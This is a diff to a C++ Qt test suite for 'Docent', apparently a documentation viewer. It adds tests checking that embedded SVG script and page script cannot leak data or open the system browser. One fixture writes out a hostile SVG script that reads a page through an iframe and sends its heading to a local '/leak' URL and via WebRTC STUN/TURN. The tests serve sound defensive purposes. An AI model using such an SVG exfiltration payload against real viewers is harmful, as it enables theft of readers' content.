@@ -11,6 +11,9 @@
 #include "pagetestsupport.h"
 
 #include <QClipboard>
+#include <QDesktopServices>
+#include <QTcpServer>
+#include <QUdpSocket>
 #include <QElapsedTimer>
 #include <QLabel>
 #include <QLineEdit>
@@ -68,7 +71,9 @@ private Q_SLOTS:
     void init();
     void mathIsTypeset();
     void copyButtonCopiesCode();
-
+    void svgOfTheTreeRunsNoScript();
+    void onlyTheReaderOpensTheBrowser();
+    void webRtcSendsNoUdp();
 };
 
 using DocentTest::js;
@@ -95,7 +100,56 @@ bool waitForPageScript(QWebEngineView *view)
     return false;
 }
 
+// Clicks the middle of the first element `selector` matches, with the real mouse, scrolled into
+// view first (the page view of a test window is small).
+bool clickElement(QWebEngineView *view, const QString &selector)
+{
+    const QStringList centre = js(view, QStringLiteral("(function(){var e=document.querySelector('%1');if(!e)return '';"
+                                                       "e.scrollIntoView({block:'center',inline:'center'});"
+                                                       "var r=e.getBoundingClientRect();return (r.left+r.width/2)+','+(r.top+r.height/2);})()")
+                                            .arg(selector))
+                                   .split(u',');
+    if (centre.size() != 2 || !view->focusProxy())
+        return false;
+    const QPointF css(centre[0].toDouble(), centre[1].toDouble());
+    QTest::mouseClick(view->focusProxy(), Qt::LeftButton, {}, (css * view->zoomFactor()).toPoint());
+    return true;
+}
+
+// Opens `path` in the window, shows it and waits until its first page, headed `heading`, is ready.
+bool showTree(MainWindow &w, const QString &path, const QString &heading)
+{
+    QString error;
+    if (!w.openPath(path, &error)) {
+        qWarning("%s", qPrintable(error));
+        return false;
+    }
+    w.show();
+    return QTest::qWaitForWindowExposed(&w) && waitForHeading(w.view(), heading) && waitForPageScript(w.view());
+}
+
 } // namespace
+
+// Stands in for the system browser: records what Docent hands to it instead of opening it.
+class BrowserStandIn : public QObject
+{
+    Q_OBJECT
+public:
+    BrowserStandIn()
+    {
+        QDesktopServices::setUrlHandler(QStringLiteral("http"), this, "open");
+        QDesktopServices::setUrlHandler(QStringLiteral("https"), this, "open");
+    }
+    ~BrowserStandIn() override
+    {
+        QDesktopServices::unsetUrlHandler(QStringLiteral("http"));
+        QDesktopServices::unsetUrlHandler(QStringLiteral("https"));
+    }
+    QStringList opened;
+
+public Q_SLOTS:
+    void open(const QUrl &url) { opened << url.toString(); }
+};
 
 void TestMainWindow::initTestCase()
 {
@@ -712,6 +766,119 @@ void TestMainWindow::copyButtonCopiesCode()
     QGuiApplication::clipboard()->clear();
     QTest::mouseClick(w.view()->focusProxy(), Qt::LeftButton, {}, button);
     QTRY_COMPARE_WITH_TIMEOUT(QGuiApplication::clipboard()->text(), QStringLiteral("$ docent render page.rst"), 10000);
+}
+
+void TestMainWindow::svgOfTheTreeRunsNoScript()
+{
+    // Where a leak would arrive: a STUN server (UDP), a web and TURN server (TCP), the browser.
+    QUdpSocket stun;
+    QVERIFY(stun.bind(QHostAddress::LocalHost, 0));
+    QTcpServer web;
+    QVERIFY(web.listen(QHostAddress::LocalHost, 0));
+    BrowserStandIn browser;
+    // The SVG reads a page of the tree through an iframe, opens a WebRTC connection and sends
+    // what it read in a URL for the system browser; then it says it is done.
+    QTemporaryDir tree;
+    const QString tcp = QString::number(web.serverPort());
+    QVERIFY(DocentTest::writeFile(tree.filePath(QStringLiteral("conf.py")), QStringLiteral("project = 'SVG'\n")));
+    QVERIFY(DocentTest::writeFile(tree.filePath(QStringLiteral("index.rst")),
+                                  QStringLiteral("Secret Page\n===========\n\n.. image:: hostile.svg\n   :target: hostile.svg\n\n"
+                                                 "`outside <http://127.0.0.1:%1/clicked>`_\n").arg(tcp)));
+    QVERIFY(DocentTest::writeFile(
+        tree.filePath(QStringLiteral("hostile.svg")),
+        QStringLiteral(
+            "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"240\" height=\"120\">\n"
+            "<rect width=\"240\" height=\"120\" fill=\"#c33\"/>\n<script><![CDATA[\n"
+            "setTimeout(function () {\n"
+            "  var holder = document.createElementNS('http://www.w3.org/2000/svg', 'foreignObject');\n"
+            "  var frame = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe');\n"
+            "  frame.setAttribute('src', 'index.html');\n"
+            "  frame.onload = function () {\n"
+            "    var secret = 'unread';\n"
+            "    try { secret = frame.contentDocument.querySelector('h1').textContent; } catch (e) {}\n"
+            "    var send = function () {\n"
+            "      location.href = 'http://127.0.0.1:%1/leak?' + encodeURIComponent(secret);\n"
+            "      document.title = 'leaked';\n"
+            "    };\n"
+            "    try {\n"
+            "      var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:%2'},\n"
+            "        {urls: 'turn:127.0.0.1:%1?transport=tcp', username: 'u', credential: 'c'}]});\n"
+            "      pc.createDataChannel('leak');\n"
+            "      pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).then(send, send);\n"
+            "    } catch (e) { send(); }\n"
+            "  };\n"
+            "  holder.appendChild(frame);\n"
+            "  document.documentElement.appendChild(holder);\n"
+            "}, 0);\n"
+            "]]></script>\n</svg>\n")
+            .arg(tcp, QString::number(stun.localPort()))));
+
+    MainWindow w;
+    QVERIFY(showTree(w, tree.path(), QStringLiteral("Secret Page")));
+    // The reader clicks the image, whose :target: is the SVG: it opens as a page of Docent's
+    // showing the image, or (had its script run) the script says it is done.
+    QVERIFY(clickElement(w.view(), QStringLiteral("a.reference img")));
+    QTRY_VERIFY_WITH_TIMEOUT(w.view()->url().path() == u"/hostile.svg" &&
+                                 (js(w.view(), QStringLiteral("document.title")) == u"leaked" ||
+                                  js(w.view(), QStringLiteral("String(document.images.length === 1 && "
+                                                              "document.images[0].complete && document.images[0].naturalWidth)")) == u"240"),
+                             15000);
+    // A click the reader makes still reaches the browser: when it has, anything the script sent
+    // before it would have arrived too.
+    w.view()->back();
+    QVERIFY(waitForHeading(w.view(), QStringLiteral("Secret Page")));
+    QVERIFY(waitForPageScript(w.view()));
+    QTRY_COMPARE_WITH_TIMEOUT(js(w.view(), QStringLiteral("String(document.images[0].complete)")), QStringLiteral("true"), 15000);
+    QVERIFY(clickElement(w.view(), QStringLiteral("a[href^=http]")));
+    QTRY_VERIFY_WITH_TIMEOUT(!browser.opened.isEmpty(), 15000);
+    QCOMPARE(browser.opened, QStringList{QStringLiteral("http://127.0.0.1:%1/clicked").arg(tcp)});
+    QVERIFY2(!stun.hasPendingDatagrams(), "a STUN request left");
+    QVERIFY2(!web.hasPendingConnections(), "a TCP connection was made");
+}
+
+void TestMainWindow::onlyTheReaderOpensTheBrowser()
+{
+    BrowserStandIn browser;
+    QTemporaryDir tree;
+    QVERIFY(DocentTest::writeFile(tree.filePath(QStringLiteral("conf.py")), QStringLiteral("project = 'Links'\n")));
+    QVERIFY(DocentTest::writeFile(tree.filePath(QStringLiteral("index.rst")),
+                                  QStringLiteral("Links\n=====\n\n`first <http://127.0.0.1:1/first>`_\n\n"
+                                                 "`second <https://127.0.0.1:1/second>`_\n")));
+    MainWindow w;
+    QVERIFY(showTree(w, tree.path(), QStringLiteral("Links")));
+    // Script follows a link and clicks one: neither is the reader's. Each is given a moment to
+    // reach the window before the next (a second navigation would cancel the first).
+    js(w.view(), QStringLiteral("location.href='http://127.0.0.1:1/by-script';''"));
+    QTest::qWait(500);
+    js(w.view(), QStringLiteral("document.querySelector('a.external').click();''"));
+    QTest::qWait(500);
+    // The reader's click and key press do open the browser, each once; had the script's got
+    // through, they would be first.
+    QVERIFY(clickElement(w.view(), QStringLiteral("a[href$=second]")));
+    QTRY_VERIFY_WITH_TIMEOUT(!browser.opened.isEmpty(), 15000);
+    js(w.view(), QStringLiteral("document.querySelector('a[href$=first]').focus();''"));
+    QTest::keyClick(w.view()->focusProxy(), Qt::Key_Return);
+    QTRY_COMPARE_WITH_TIMEOUT(browser.opened.size(), 2, 15000);
+    QCOMPARE(browser.opened, (QStringList{QStringLiteral("https://127.0.0.1:1/second"), QStringLiteral("http://127.0.0.1:1/first")}));
+}
+
+void TestMainWindow::webRtcSendsNoUdp()
+{
+    // Script of Docent's pages cannot make WebRTC connections either way (no script but Docent's
+    // runs); this is the profile's last line: no UDP leaves, whoever asks.
+    QUdpSocket stun;
+    QVERIFY(stun.bind(QHostAddress::LocalHost, 0));
+    MainWindow w;
+    QString error;
+    QVERIFY(w.openPath(DocentTest::dataDir(QStringLiteral("tree")), &error));
+    w.show();
+    QVERIFY(waitForHeading(w.view(), QStringLiteral("Test Tree")));
+    js(w.view(), QStringLiteral("window.gathering='';var pc=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:%1'}]});"
+                                "pc.createDataChannel('x');pc.onicegatheringstatechange=function(){window.gathering=pc.iceGatheringState;};"
+                                "pc.createOffer().then(function(o){return pc.setLocalDescription(o);});''")
+                     .arg(stun.localPort()));
+    QTRY_VERIFY_WITH_TIMEOUT(stun.hasPendingDatagrams() || js(w.view(), QStringLiteral("window.gathering")) == u"complete", 60000);
+    QVERIFY2(!stun.hasPendingDatagrams(), "a STUN request left");
 }
 
 QTEST_MAIN(TestMainWindow)
